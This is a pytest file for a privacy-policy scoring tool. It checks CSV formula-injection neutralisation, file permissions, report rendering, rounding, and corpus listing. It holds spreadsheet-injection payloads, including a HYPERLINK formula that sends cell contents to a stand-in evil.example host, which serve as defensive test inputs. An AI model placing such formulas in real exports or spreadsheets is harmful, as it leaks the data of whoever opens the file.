"""What `assess` and `publish` write, as a first-time user and a hostile one see it (issue 13,
items 8 and 14): CSV cells never run as formulas, files get the usual permissions, the report reads
as text, one rounding rule everywhere, whole ids in `corpus list`, clean example texts."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import stat

import pytest
import yaml

from rightsindex.formats import elementcsv
from rightsindex import methodology as m

from .conftest import ROOT

EXAMPLE = ROOT / "examples" / "corpus-2026"
EVIL_LABEL = '=HYPERLINK("http://evil.example/?leak="&A1,"Apple")'
EVIL_SERVICE = "@SUM(1+1)*cmd"
EVIL_COMMENT = '=HYPERLINK("http://evil.example/","click")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


@pytest.fixture(scope="module")
def assessed(tmp_path_factory):
    """Apple's privacy policy assessed under a hostile company name and service id, with an
    analyst's hostile comment; outputs written again and published (umask 022)."""
    from rightsindex import review
    from rightsindex.run import assess
    from rightsindex.run.outputs import write_outputs
    from rightsindex.store import Store

    tmp = tmp_path_factory.mktemp("outputs")
    old_umask = os.umask(0o022)
    try:
        doc = "docs/Apple/apple-privacy-policy.md"
        (tmp / doc).parent.mkdir(parents=True)
        shutil.copyfile(EXAMPLE / doc, tmp / doc)
        raw = {"index": "2026", "methodology": "rdr-2022", "companies": [{
            "id": "Apple", "name": EVIL_LABEL, "type": "Digital Platform",
            "services": [{"id": EVIL_SERVICE, "kind": "cloud storage"}],
            "documents": [{"path": doc, "title": "Apple Privacy Policy", "language": "en"}],
        }]}
        manifest = tmp / "manifest.yaml"
        manifest.write_text(yaml.safe_dump(raw, allow_unicode=True), "utf-8")
        out = tmp / "out"
        result = assess(manifest, out)
        db = f"sqlite:///{out / 'rightsindex.sqlite'}"
        store = Store.open(db)
        rows = list(csv.DictReader(io.StringIO((out / "element-scores.csv").read_text("utf-8"))))
        target = next(r for r in rows if r["Service"] == "Group" and r["Result"] == "no disclosure found")
        with store.session() as s:
            review.change_grade(s, "alice", assessment_id=result.assessment_id, company_key="Apple", level="Group",
                                element=target["Element"], result="partial", comment=EVIL_COMMENT)
        files, scores = write_outputs(store, result.assessment_id, out)
        store.close()
        site = None
        try:
            from rightsindex.publish.site import publish_site

            publish_site(db, tmp / "site")
            site = tmp / "site"
        except ImportError:  # pragma: no cover - WeasyPrint missing locally
            pass
    finally:
        os.umask(old_umask)
    return {"tmp": tmp, "out": out, "db": db, "files": files, "scores": scores, "site": site, "element": target["Element"],
            "assessment_id": result.assessment_id}


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert(text: str, where: str) -> None:
    for cell in _cells(text):
        assert not (cell.startswith(TRIGGERS) and not NUMBER.fullmatch(cell)), (where, cell[:80])


# -- item 8: CSV cells never run as formulas --------------------------------------------------------


def test_every_csv_written_neutralises_formula_cells(assessed, cli):
    out = assessed["out"]
    text = (out / "element-scores.csv").read_text("utf-8")
    _assert_inert(text, "element-scores.csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["CompanyLabel"] for r in rows} == {"'" + EVIL_LABEL}
    assert "'" + EVIL_SERVICE in {r["Service"] for r in rows}
    reviewed = next(r for r in rows if r["Element"] == assessed["element"] and r["Service"] == "Group")
    assert reviewed["Comment"] == "'" + EVIL_COMMENT and reviewed["Reviewed"] == "yes"
    if assessed["site"] is not None:
        for name in ("element-scores.csv", "scores.csv"):
            _assert_inert((assessed["site"] / "data" / name).read_text("utf-8"), f"site/data/{name}")
        assert "'" + EVIL_LABEL in _cells((assessed["site"] / "data" / "scores.csv").read_text("utf-8"))
    res = cli("score", out / "element-scores.csv", "--methodology", "rdr-2022", "--format", "csv")
    assert res.returncode == 0, res.stderr
    _assert_inert(res.stdout, "score --format csv")
    assert "'" + EVIL_LABEL in _cells(res.stdout)


def test_our_csv_reads_back_to_the_same_values(assessed):
    data = elementcsv.read([assessed["out"] / "element-scores.csv"], m.load("rdr-2022"))
    assert {r.company_label for r in data.results} == {EVIL_LABEL}
    assert EVIL_SERVICE in {r.level for r in data.results}


def test_numbers_stay_numbers():
    from rightsindex.formats.csvsafe import neutralise, restore

    for value in ("-5", "+0.25", "-1e3", "12", "", "NA", "Apple"):
        assert neutralise(value) == value
    for value in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=x", "\r=x"):
        assert neutralise(value) == "'" + value and restore(neutralise(value)) == value
    assert neutralise(-5) == -5


# -- item 14: files, report, rounding, corpus list, example texts, README ---------------------------


def test_outputs_are_written_with_the_process_umask(assessed):
    out = assessed["out"]
    for path in (out / "element-scores.csv", out / "scores.json", out / "report" / "index.html"):
        assert stat.S_IMODE(path.stat().st_mode) == 0o644, path
    if assessed["site"] is not None:
        assert stat.S_IMODE(assessed["site"].stat().st_mode) == 0o755
        assert stat.S_IMODE((assessed["site"] / "data" / "element-scores.csv").stat().st_mode) == 0o644


def test_the_report_shows_evidence_as_text_cut_between_words_with_the_web_caption(assessed):
    from rightsindex.publish.text import display

    html = (assessed["out"] / "report" / "index.html").read_text("utf-8")
    quotes = re.findall(r"<blockquote[^>]*>(.*?)\n<span class=\"meta\">", html, re.S)
    assert quotes
    rows = list(csv.DictReader(io.StringIO((assessed["out"] / "element-scores.csv").read_text("utf-8"))))
    originals = [display(e["text"]).strip() for r in rows for e in json.loads(r["Evidence"] or "[]")]
    for q in quotes:
        q = q.replace("&#39;", "'").replace("&#34;", '"').replace("&quot;", '"').replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">")
        assert "](" not in q and "**" not in q, q[:120]  # no raw Markdown
        if q.endswith("…"):
            body = q[:-1].rstrip()
            source = next(o for o in originals if o.startswith(body))
            nxt = source[len(body) : len(body) + 1]
            assert nxt in (" ", "") or body.endswith((".", "。", ";", "；")), (body[-30:], source[len(body) - 10 : len(body) + 10])
    assert "Closest passages (" in html and "none was judged to disclose this" in html
    assert 'th class="n">Total</th>' in html


def test_one_rounding_rule_everywhere(assessed):
    from rightsindex.publish import charts, report, site
    from rightsindex.publish.scores import display_score
    from rightsindex.web import charts as web_charts
    from rightsindex.web.render import fmt_delta, fmt_score

    for raw, shown in ((20.549, "20.6"), (20.55, "20.6"), (20.54, "20.5"), (0.049, "0.1"), (99.951, "100.0"), (None, "N/A")):
        assert display_score(raw) == shown, raw
        assert fmt_score(raw) == shown  # web
        assert site.fmt(raw) == shown  # static site and PDF
        assert report._env().filters["score"](raw) == shown  # assess's report
        assert charts._fmt(raw) == shown and web_charts._fmt(raw) == shown  # charts
    assert fmt_delta(0.049) == "+0.1" and fmt_delta(-0.04) == "±0"

    # the web app and the report show the same total for the company assessed
    from fastapi.testclient import TestClient

    from rightsindex.web import create_app

    total = assessed["scores"]["companies"]["Apple"]["total"]
    html = (assessed["out"] / "report" / "index.html").read_text("utf-8")
    assert f"Total {display_score(total)} ·" in html
    web = TestClient(create_app(assessed["db"], public=True)).get("/companies/Apple").text
    assert f'data-testid="company-total">{display_score(total)}<' in web


def test_corpus_list_keeps_whole_ids_at_80_columns(tmp_path, cli):
    from .test_corpus_store import small_manifest

    db = f"sqlite:///{tmp_path / 'db.sqlite'}"
    mpath = small_manifest(tmp_path, companies=("Amazon", "ByteDance"))
    assert cli("corpus", "add", mpath, "--db", db).returncode == 0
    listing = cli("corpus", "list", "--db", db, env={"COLUMNS": "80"})
    assert listing.returncode == 0, listing.stderr
    for key in ("docs/Amazon/amazon-com-acceptable-use-policy.md", "docs/ByteDance/tiktok-law-enforcement-guidelines.md"):
        assert key in listing.stdout
    assert "…" not in listing.stdout


def test_example_chinese_texts_have_no_dataset_markers_and_no_giant_passage():
    from rightsindex.corpus.extract import normalise_text
    from rightsindex.corpus.segment import segment

    for path in sorted((EXAMPLE / "docs").rglob("*.md")):
        assert "<it is delimiter>" not in path.read_text("utf-8"), path
    qq = normalise_text((EXAMPLE / "docs/Tencent/qq-privacy-policy-zh.md").read_text("utf-8"))
    passages = segment(qq, language="zh")
    statement = [p for p in passages if "儿童" in p.text]
    assert statement and max(len(p.text) for p in passages) < 600
    assert max(p.text.count("\n") for p in passages) <= 2
    assert any(p.kind == "heading" and p.text == "儿童隐私保护声明" for p in passages)


def test_readme_commands_use_the_virtual_environment_it_creates():
    readme = (ROOT / "README.md").read_text("utf-8")
    blocks = re.findall(r"```sh\n(.*?)```", readme, re.S)
    commands = [line.strip() for block in blocks for line in block.splitlines() if line.strip()]
    bare = [c for c in commands if re.match(r"rightsindex\b", c)]
    assert not bare, bare
    assert any(c.startswith(".venv/bin/rightsindex user add") for c in commands)
